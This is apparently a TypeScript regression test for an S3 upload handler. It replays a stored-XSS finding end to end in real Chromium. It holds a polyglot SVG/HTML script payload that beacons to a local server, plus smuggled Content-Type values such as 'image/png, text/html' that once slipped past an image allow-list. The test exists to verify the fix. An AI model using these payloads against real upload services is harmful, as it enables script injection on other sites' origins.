// Issue 10, finding 2: with `allowedTypes: ['image/*']`, `filetype: "image/png, text/html"` was
// accepted and signed as the object's Content-Type; Chromium, given a list, uses the last type,
// rendered the object as HTML and ran its script on the storage's origin (stored XSS). SVG passed
// `image/*` and runs script too. A non-ASCII filetype got 500; token mode ignored allowedTypes.
// Each attack is played to the end here: ask the upload API, PUT the payload with what it answered,
// open the object in real Chromium, and see whether the payload's script phoned home.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { type ChromiumSession, launchChromium } from '../dev/launch-chromium.ts'
import { type S3rverInstance, startS3rver } from '../dev/s3rver.ts'
import { storeConfig, type TestStore } from '../dev/stores.ts'
import { objectUrl } from '../protocol/object-url.ts'
import type { InfoReply, PresignedPutReply } from '../protocol/wire.ts'
import { createUploadHandler, type UploadHandler, type UploadHandlerConfig } from '../server/index.ts'
import { createPresigner } from '../server/presigner.ts'

const rgw = inject('rgw')
let s3rver: S3rverInstance
let chromium: ChromiumSession
let beacon: { url: string; hits: string[]; server: Server }

beforeAll(async () => {
  s3rver = await startS3rver()
  chromium = await launchChromium()
  // Where a payload's script reports that it ran.
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  beacon = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server }
})
afterAll(async () => {
  await chromium?.close()
  beacon?.server.closeAllConnections()
  await new Promise((resolve) => beacon?.server.close(resolve))
  await s3rver?.stop()
})

const stores: Record<'s3rver' | 'rgw', () => TestStore> = { s3rver: () => s3rver, rgw: () => rgw }

const post = (handler: UploadHandler, body: unknown) =>
  handler(
    new Request('http://app.test/api/s3-upload', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    }),
  )

/** HTML and SVG in one: whichever way the browser reads it, a script reports `id`. */
const payload = (id: string) =>
  new TextEncoder().encode(
    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${beacon.url}/${id}",{mode:"no-cors"})</script></svg>` +
      `<html><body><script>fetch("${beacon.url}/${id}",{mode:"no-cors"})</script></body></html>`,
  )

/** The object opened as a visitor would (a presigned GET, since RGW objects are private); true when its script ran. */
async function scriptRuns(page: Page, store: TestStore, key: string, id: string): Promise<boolean> {
  const presign = createPresigner(store.credentials, store.region)
  const url = await presign({
    method: 'GET',
    url: objectUrl({ ...store, bucket: store.bucket, key, forcePathStyle: true }),
    expiresIn: 300,
  })
  // A download (Content-Disposition: attachment) aborts the navigation: nothing rendered, nothing ran.
  await page.goto(url, { waitUntil: 'networkidle' }).catch((error: Error) => {
    if (!/ERR_ABORTED|Download is starting/.test(error.message)) throw error
  })
  return beacon.hits.includes(`/${id}`)
}

/**
 * The whole attack: ask for a URL to upload `filetype`, PUT the payload with what the upload API
 * answered, open the object. Undefined when the upload API refused (nothing stored, nothing to open).
 */
async function attack(page: Page, store: TestStore, handler: UploadHandler, filetype: string) {
  const id = crypto.randomUUID()
  const bytes = payload(id)
  const response = await post(handler, { filename: 'cat.png', filetype, filesize: bytes.length, strategy: 'presigned' })
  if (response.status !== 200)
    return { status: response.status, error: ((await response.json()) as { error: string }).error }
  const reply = (await response.json()) as PresignedPutReply
  const headers = reply.headers ?? { 'Content-Type': filetype }
  const stored = await fetch(reply.url, { method: 'PUT', body: bytes, headers })
  expect(stored.status).toBe(200)
  return { status: 200, ran: await scriptRuns(page, store, reply.key, id) }
}

describe.each(Object.entries(stores))('on %s, in Chromium', (_name, store) => {
  let page: Page
  beforeAll(async () => {
    page = await chromium.newPage()
  })

  const handlerWith = (extra: UploadHandlerConfig) =>
    createUploadHandler(storeConfig(store(), { logger: { error: () => {}, warn: () => {} }, ...extra }))

  it.each([
    ['image/png, text/html', 400, /not a list/],
    ['image/png; x=1, text/html', 400, /not a list/],
    ['image/png;, text/html', 400, /not a list/],
    ['image/svg+xml', 415, /active content such as image\/svg\+xml must be listed by its exact type/],
    ['IMAGE/SVG+XML; charset=utf-8', 415, /exact type/],
  ])(
    'allowedTypes image/*: %j is refused before anything is signed, so no script can run',
    async (filetype, status, message) => {
      const outcome = await attack(page, store(), handlerWith({ allowedTypes: ['image/*'] }), filetype)
      expect(outcome).toEqual({ status, error: expect.stringMatching(message) })
    },
  )

  it('allowedTypes image/*: an accepted type is signed canonical, and the payload stays an image', async () => {
    const outcome = await attack(page, store(), handlerWith({ allowedTypes: ['image/*'] }), 'Image/PNG ; charset=x')
    expect(outcome).toEqual({ status: 200, ran: false })
  })

  it('with no allowedTypes, HTML is refused unless named', async () => {
    expect(await attack(page, store(), handlerWith({}), 'text/html')).toEqual({
      status: 415,
      error: expect.stringMatching(/active content/),
    })
  })

  it("named explicitly, HTML is stored and runs (the detector works); with contentDisposition 'attachment' it downloads instead", async () => {
    expect(await attack(page, store(), handlerWith({ allowedTypes: ['text/html'] }), 'text/html')).toEqual({
      status: 200,
      ran: true,
    })
    const attachment = handlerWith({ allowedTypes: ['text/html'], contentDisposition: 'attachment' })
    expect(await attack(page, store(), attachment, 'text/html')).toEqual({ status: 200, ran: false })
  })

  it('a non-ASCII filetype is a 400 that says why (it was a 500)', async () => {
    const response = await post(handlerWith({}), {
      filename: 'a',
      filetype: 'image/pngé',
      filesize: 1,
      strategy: 'presigned',
    })
    expect(response.status).toBe(400)
    expect(await response.json()).toEqual({ error: 'filetype "image/pngé" must be printable ASCII, such as image/png' })
  })
})

describe('token mode cannot enforce allowedTypes (a policy cannot name a Content-Type)', () => {
  it('so with allowedTypes set it is refused, and /info says why (RGW, assume-role)', async () => {
    const handler = createUploadHandler(
      storeConfig(rgw, { sts: { mode: 'assume-role', roleArn: rgw.roleArn }, allowedTypes: ['image/*'] }),
    )
    const response = await post(handler, {
      filename: 'cat.png',
      filetype: 'image/png',
      filesize: 10,
      strategy: 'token',
    })
    expect(response.status).toBe(400)
    const { error } = (await response.json()) as { error: string }
    expect(error).toMatch(
      /^Token mode is not available on this server: allowedTypes is set.*strategy 'presigned' instead$/,
    )
    const info = (await (await handler(new Request('http://app.test/api/s3-upload/info'))).json()) as InfoReply
    expect(info).toMatchObject({ token: false, tokenUnavailableReason: expect.stringMatching(/allowedTypes/) })
  })
})
